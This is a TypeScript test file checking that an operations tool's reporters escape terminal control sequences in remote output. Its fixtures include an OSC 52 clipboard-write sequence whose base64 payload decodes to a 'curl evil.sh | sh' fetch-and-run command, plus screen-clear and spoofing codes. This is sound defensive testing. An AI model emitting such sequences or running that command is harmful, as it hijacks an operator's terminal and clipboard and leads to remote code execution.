/**
 * Remote output is hostile text: a host (or a task's stderr) must not be able to drive the
 * operator's terminal. OSC 52 writes the clipboard, CSI 2J clears the screen, a C1 CSI
 * (U+009B) does the same on terminals that honour C1. The TTY and plain reporters show
 * them escaped; the JSON reporter keeps the exact text, JSON-escaped.
 */
import { describe, expect, it } from 'vitest';
import { createReporter } from '../../../src/report/index.js';
import { escapeControls } from '../../../src/report/printable.js';
import type { RunEvent } from '../../../src/report/events.js';
import { sink } from './events.fixture.js';

const OSC52 = '\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007';
const CLEAR = '\u001b[2J\u001b[H';
const C1_CSI = '\u009b31m';
const HOSTILE = `before${OSC52}${CLEAR}${C1_CSI}\rspoofed\u0008\u007fafter`;

/** Every C0/C1 control character except newline and tab: what a terminal acts on. */
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

function events(): RunEvent[] {
  return [
    { type: 'run.start', runId: 'r1', command: 'exec', mode: 'apply', inventory: 'lab', hosts: ['web1'], at: '2025-01-01T00:00:00.000Z' },
    { type: 'host.connected', host: 'web1', ms: 3 },
    { type: 'exec.output', host: 'web1', code: 0, stdout: `line1\n${HOSTILE}\n`, stderr: `warn ${CLEAR}\n` },
    { type: 'task.start', host: 'web1', task: `command.run echo ${OSC52}`, module: 'command.run' },
    { type: 'task.result', host: 'web1', task: `command.run echo ${OSC52}`, module: 'command.run', status: 'failed', changes: [], error: `exit 1: ${HOSTILE}`, ms: 2 },
    { type: 'host.failed', host: 'web1', error: `refused: ${CLEAR}` },
    {
      type: 'run.end',
      runId: 'r1',
      recap: [{ host: 'web1', ok: 0, changed: 0, failed: 1, skipped: 0, unreachable: false, error: `x ${OSC52}`, durationMs: 5 }],
      durationMs: 5,
      interrupted: false,
      exitCode: 1,
    },
  ];
}

/** Our own colour codes are fine; anything else that reaches the terminal is not. */
const withoutOwnColours = (text: string) => text.replace(/\u001b\[[0-9;]*m/g, '');

describe('control characters in output', () => {
  it('escapeControls: C0 (but newline and tab), DEL and C1 become visible \\xNN', () => {
    expect(escapeControls(`a\tb\nc${OSC52}`)).toBe('a\tb\nc\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07');
    expect(escapeControls(`${CLEAR}${C1_CSI}\r\u007f`)).toBe('\\x1b[2J\\x1b[H\\x9b31m\\x0d\\x7f');
    expect(escapeControls('plain ünïcode ✔')).toBe('plain ünïcode ✔');
  });

  it('the plain reporter prints remote output escaped', async () => {
    const out = sink();
    const r = createReporter({ mode: 'plain', diff: true, verbose: true, out: out.stream });
    events().forEach((e) => r.emit(e));
    await r.close();
    const text = out.text();
    expect(text).not.toMatch(CONTROL);
    expect(text).toContain('before\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\x1b[2J\\x1b[H\\x9b31m\\x0dspoofed\\x08\\x7fafter');
    expect(text).toContain('line1');
  });

  it('the plain reporter with colour keeps its own colours only', async () => {
    const out = sink();
    const { createPlainReporter } = await import('../../../src/report/plain.js');
    const r = createPlainReporter({ out: out.stream, diff: true, verbose: true, color: true });
    events().forEach((e) => r.emit(e));
    await r.close();
    expect(out.text()).toContain('\u001b[31m'); // red "failed": ours
    expect(withoutOwnColours(out.text())).not.toMatch(CONTROL);
  });

  it('the TTY reporter (live rows and details) prints remote output escaped', async () => {
    const out = sink({ tty: true });
    const r = createReporter({ mode: 'tty', diff: true, verbose: true, out: out.stream });
    for (const e of events()) {
      r.emit(e);
      await new Promise((res) => setTimeout(res, 2));
    }
    await r.close();
    const text = out.text();
    expect(text).toContain('\\x1b]52;c;');
    expect(text).toContain('\\x1b[2J');
    expect(text).not.toContain(OSC52);
    expect(text).not.toContain('\u001b[2J');
    expect(text).not.toContain('\u009b');
  });

  it('the JSON reporter keeps the exact text, with every control character JSON-escaped', async () => {
    const out = sink();
    const r = createReporter({ mode: 'json', diff: true, out: out.stream });
    events().forEach((e) => r.emit(e));
    await r.close();
    const text = out.text();
    expect(text.trimEnd().split('\n').join('')).not.toMatch(CONTROL);
    const output = text
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l) as RunEvent)
      .find((e) => e.type === 'exec.output');
    expect(output).toMatchObject({ stdout: `line1\n${HOSTILE}\n` });
  });
});
